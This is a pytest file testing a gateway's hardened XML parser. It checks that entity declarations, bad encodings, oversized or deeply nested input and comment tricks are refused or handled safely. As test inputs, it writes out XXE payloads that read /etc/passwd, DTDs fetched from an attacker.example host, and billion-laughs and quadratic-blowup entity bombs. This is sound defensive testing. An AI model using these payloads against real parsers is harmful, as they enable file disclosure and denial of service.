"""Whatever the bytes are: a tree of known names, or MalformedMessage, soon."""

import traceback

import pytest

from gateway.errors import MalformedMessage
from gateway.protocol import xml
from gateway.protocol.namespaces import ELEMENTS, SOAP, UNKNOWN, WSSE, WST, XSI

TOKEN = f"{{{WST}}}TokenType"


def the_refusal_of(message: bytes) -> str:
    with pytest.raises(MalformedMessage) as refusal:
        xml.parse_document(message)
    return str(refusal.value)


def a_token_type(content: str) -> bytes:
    return f'<TokenType xmlns="{WST}">{content}</TokenType>'.encode()


# --- what is refused ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "doctype",
    [
        "<!DOCTYPE TokenType>",
        '<!DOCTYPE TokenType SYSTEM "https://attacker.example/x.dtd">',
        '<!DOCTYPE TokenType [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE TokenType [<!ENTITY % x SYSTEM "https://attacker.example/x"> %x;]>',
    ],
    ids=["harmless", "external", "XXE", "parameter entity"],
)
def test_any_document_type_declaration_is_refused(doctype: str) -> None:
    assert "DOCTYPE" in the_refusal_of(doctype.encode() + a_token_type("x"))


def test_a_billion_laughs_are_refused_before_the_first_one() -> None:
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 20))
    message = f'<!DOCTYPE x [<!ENTITY e0 "ha">{entities}]><x a="&e19;">&e19;</x>'

    assert "DOCTYPE" in the_refusal_of(message.encode())


def test_quadratic_blowup_is_refused() -> None:
    message = f'<!DOCTYPE x [<!ENTITY e "{"a" * 100_000}">]><x>{"&e;" * 100_000}</x>'

    assert "DOCTYPE" in the_refusal_of(message.encode())


def test_an_entity_that_is_not_declared_is_refused() -> None:
    assert "undefined entity" in the_refusal_of(a_token_type("&xxe;"))


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_utf_16_and_utf_32_are_refused(encoding: str) -> None:
    assert "must be UTF-8" in the_refusal_of('<?xml version="1.0"?><x/>'.encode(encoding))


@pytest.mark.parametrize("encoding", ["utf-16", "iso-8859-1", "windows-1252", "utf-7", "us-ascii", "no-such"])
def test_another_encoding_is_refused_even_where_the_bytes_are_ascii(encoding: str) -> None:
    assert encoding in the_refusal_of(f'<?xml version="1.0" encoding="{encoding}"?><x/>'.encode())


def test_xml_1_1_is_refused() -> None:
    assert "1.1" in the_refusal_of(b'<?xml version="1.1"?><x/>')


@pytest.mark.parametrize(
    "content",
    [b"\xff", b"\xc0\xbc", b"\xed\xa0\x80", b"\xf4\x90\x80\x80"],
    ids=["byte", "overlong", "surrogate", "big"],
)
def test_bytes_that_are_no_utf_8_are_refused(content: bytes) -> None:
    assert "not well-formed" in the_refusal_of(b"<x>" + content + b"</x>")


@pytest.mark.parametrize(
    "character", ["\x01", "\x0b", "\x1f", "\ufffe", "\uffff", "&#0;", "&#1;", "&#xD800;", "&#xFFFF;"]
)
def test_characters_that_xml_has_not_are_refused(character: str) -> None:
    assert "not well-formed" in the_refusal_of(a_token_type(character))


def test_a_nul_byte_is_refused() -> None:
    assert "NUL" in the_refusal_of(a_token_type("a\0b"))


@pytest.mark.parametrize(
    "message", [b"", b" ", b"plain text", b"<x>", b"<x></y>", b"<x/><y/>", b"<p:x/>", b"<x a='1' a='2'/>"]
)
def test_what_is_not_well_formed_is_refused(message: bytes) -> None:
    assert "not well-formed" in the_refusal_of(message)


@pytest.mark.parametrize(
    "message",
    [b'<?xml-stylesheet href="x"?><x/>', b"<x><?php x ?></x>", b"<x/><?y?>"],
    ids=["before", "within", "after"],
)
def test_processing_instructions_are_refused(message: bytes) -> None:
    assert "processing instruction" in the_refusal_of(message)


def test_a_message_of_more_than_the_allowed_bytes_is_refused() -> None:
    message = a_token_type("")
    padded = message + b" " * (xml.MAX_MESSAGE_BYTES - len(message))

    assert xml.parse_document(padded).tag == TOKEN
    assert "bytes" in the_refusal_of(padded + b" ")


def test_nesting_is_bounded() -> None:
    def nested(depth: int) -> bytes:
        return b"<x>" * depth + b"</x>" * depth

    assert xml.parse_document(nested(xml.MAX_DEPTH)).tag == UNKNOWN
    assert "nested" in the_refusal_of(nested(xml.MAX_DEPTH + 1))
    assert "nested" in the_refusal_of(nested(200_000))


def test_the_number_of_elements_is_bounded() -> None:
    def wide(elements: int) -> bytes:
        return b"<x>" + b"<x/>" * (elements - 1) + b"</x>"

    assert len(xml.parse_document(wide(xml.MAX_ELEMENTS))) == xml.MAX_ELEMENTS - 1
    assert "elements" in the_refusal_of(wide(xml.MAX_ELEMENTS + 1))


@pytest.mark.parametrize("password", ["hun&ter2;x", "hunter2<oops", "hunter2\x01", "<?hunter2 ?>", "hunter2]]>"])
def test_no_refusal_quotes_what_might_be_a_password(password: str) -> None:
    with pytest.raises(MalformedMessage) as refusal:
        xml.parse_document(f"<Password>{password}</Password>".encode())

    assert "ter2" not in "".join(traceback.format_exception(refusal.value))


# --- what comes out -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "start", [b"", b"\xef\xbb\xbf", b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n', b"<!-- hello -->\n"]
)
def test_a_document_may_begin_as_xml_lets_it(start: bytes) -> None:
    assert xml.text(xml.parse_document(start + a_token_type("x"))) == "x"


def test_a_comment_does_not_cut_the_text_around_it() -> None:
    """CVE-2017-11427: who reads up to the comment takes the name for another one."""
    root = xml.parse_document(a_token_type("admin@corp.example<!-- -->.attacker.example"))

    assert xml.text(root) == "admin@corp.example.attacker.example"


def test_character_data_sections_and_references_are_text() -> None:
    assert xml.text(xml.parse_document(a_token_type("a<![CDATA[<b>]]>&#x63;&amp;"))) == "a<b>c&"


def test_long_text_comes_in_one_piece() -> None:
    content = "0123456789" * 20_000

    assert xml.text(xml.parse_document(a_token_type(content))) == content


def test_text_beside_elements_is_dropped() -> None:
    root = xml.parse_document(f'<x>a<TokenType xmlns="{WST}">b</TokenType>c</x>'.encode())

    assert (root.text, root[0].text, root[0].tail) == (None, "b", None)


def test_an_empty_id_is_no_trouble() -> None:
    """certreq and cepces send wsu:Id="", which is no xs:ID."""
    wsu = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd"
    message = f'<x xmlns:u="{wsu}" u:Id="" xml:id=""><y u:Id="" xml:id=""/></x>'

    assert len(xml.parse_document(message.encode())) == 1


def test_prefixes_do_not_matter() -> None:
    assert xml.parse_document(f'<ns0:TokenType xmlns:ns0="{WST}"/>'.encode()).tag == TOKEN


def test_names_that_nobody_knows_never_enter_the_tree() -> None:
    """lxml keeps every name that it has seen: an attacker's inventions would fill the memory for good."""
    message = f'<n1 xmlns="urn:n2" xmlns:n3="urn:n4" n3:n5="v" n6="v"><n3:n7/><TokenType xmlns="{WST}" n8="v"/></n1>'

    elements = list(xml.parse_document(message.encode()).iter())

    assert [element.tag for element in elements] == [UNKNOWN, UNKNOWN, TOKEN]
    assert {key for element in elements for key in element.attrib} == {"name"}
    assert {uri for element in elements for uri in element.nsmap.values()} == {UNKNOWN[1:].partition("}")[0], WST}
    assert xml.name_of(elements[0]) == "'n1' of namespace 'urn:n2'"


def test_a_known_name_in_another_namespace_is_unknown() -> None:
    assert "TokenType" in {known.rpartition("}")[2] for known in ELEMENTS}
    assert xml.parse_document(b"<TokenType/>").tag == UNKNOWN
    assert xml.parse_document(b'<TokenType xmlns="urn:other"/>').tag == UNKNOWN


@pytest.mark.parametrize(
    ("declarations", "qname", "expanded"),
    [
        ('xmlns:q="urn:q"', "q:Sender", "{urn:q}Sender"),
        ('xmlns:q="urn:q"', " \n q:Sender ", "{urn:q}Sender"),
        ('xmlns="urn:default"', "Sender", "{urn:default}Sender"),
        ("", "Sender", "{}Sender"),
        ("", "q:Sender", "{}Sender"),
    ],
)
def test_a_qname_is_expanded_where_its_prefix_is_known(declarations: str, qname: str, expanded: str) -> None:
    message = f'<s:Code xmlns:s="{SOAP}"><s:Value {declarations}>{qname}</s:Value></s:Code>'

    assert xml.text(xml.parse_document(message.encode())[0]) == expanded


def test_the_innermost_declaration_of_a_prefix_counts_and_ends_with_its_element() -> None:
    message = (
        f'<s:Code xmlns:s="{SOAP}" xmlns:a="urn:outer"><s:Value xmlns:a="urn:inner">a:x</s:Value>'
        "<s:Value>a:x</s:Value></s:Code>"
    )

    assert [xml.text(value) for value in xml.parse_document(message.encode())] == ["{urn:inner}x", "{urn:outer}x"]


# --- reading and writing --------------------------------------------------------------------------------------------


def test_text_with_an_element_in_it_is_refused() -> None:
    with pytest.raises(MalformedMessage, match="TokenType holds an element"):
        xml.text(xml.parse_document(a_token_type("a<b/>c")))


def test_white_space_is_only_what_xml_calls_so() -> None:
    assert xml.trimmed(xml.parse_document(a_token_type(" \t\n&#13;\u00a0x\u00a0 "))) == "\u00a0x\u00a0"


def test_of_two_elements_of_a_kind_neither_is_taken() -> None:
    root = xml.parse_document(f'<x xmlns:w="{WST}"><w:TokenType/><w:TokenType/></x>'.encode())

    for read in (xml.required, xml.optional):
        with pytest.raises(MalformedMessage, match="'x' holds 2 TokenType elements"):
            read(root, TOKEN)


def test_an_element_may_be_required() -> None:
    root = xml.parse_document(b"<x/>")

    assert xml.optional(root, TOKEN) is None
    with pytest.raises(MalformedMessage, match="'x' holds no TokenType"):
        xml.required(root, TOKEN)


@pytest.mark.parametrize(("nil", "said"), [("true", True), (" 1 ", True), ("false", False), ("0", False), ("", False)])
def test_nil_is_an_xs_boolean(nil: str, said: bool) -> None:
    assert xml.is_nil(xml.parse_document(f'<x xmlns:i="{XSI}" i:nil="{nil}"/>'.encode())) is said


def test_quotations_are_short_and_in_one_line() -> None:
    assert xml.quote("a\r\nb") == r"'a\r\nb'"
    assert len(xml.quote("x" * 1_000_000)) < 100
    assert xml.quote("a" * 1000 + "#X509v3").endswith("#X509v3'")


def test_what_xml_cannot_carry_is_replaced_in_writing() -> None:
    root = xml.new(TOKEN, {None: WST})
    xml.add(root, f"{{{WSSE}}}Username", "a\x00b\ud800c\uffffd\r\n\te\U0001f600", {"Name": "\x1b"}, {"o": WSSE})

    element = xml.parse_document(xml.to_bytes(root))[0]

    assert xml.text(element) == "a\ufffdb\ufffdc\ufffdd\r\n\te\U0001f600"
    assert element.get("Name") == "\ufffd"
